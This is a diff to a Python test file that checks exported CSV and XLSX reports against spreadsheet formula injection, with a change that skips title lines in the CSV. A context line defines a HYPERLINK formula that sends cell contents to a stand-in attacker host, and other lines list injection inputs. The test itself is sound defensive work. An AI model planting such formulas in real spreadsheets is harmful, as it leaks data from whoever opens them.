@@ -24,9 +24,13 @@ FORMULA = '=HYPERLINK("http://evil.invalid/?"&A1,"详情")'
 PHONE, ID_NUMBER = "13812345678", "11010519491231002X"
 
 
-def csv_records(response: Any) -> list[dict[str, str]]:
+def csv_records(response: Any, titles: int = 0) -> list[dict[str, str]]:
+    """The CSV's records, after ``titles`` lines of column titles above the field names."""
     assert response.status_code == 200, response.text
-    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+    lines = io.StringIO(response.content.decode("utf-8-sig"))
+    for _ in range(titles):
+        next(lines)
+    return list(csv.DictReader(lines))
 
 
 @pytest.mark.parametrize("text", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"])
@@ -59,7 +63,7 @@ def test_a_clerks_name_like_a_formula_is_inert_in_both_report_files(morning: Hal
     headers = morning.as_("manager")
     url = "/api/v1/reports/figures"
     response = morning.client.get(url, params={**params, "format": "csv"}, headers=headers)
-    (row,) = csv_records(response)
+    (row,) = csv_records(response, titles=2)  # the report's zh and en title lines, as in the XLSX
     assert row["label"] == "'=1+1"
     response = morning.client.get(url, params={**params, "format": "xlsx"}, headers=headers)
     sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
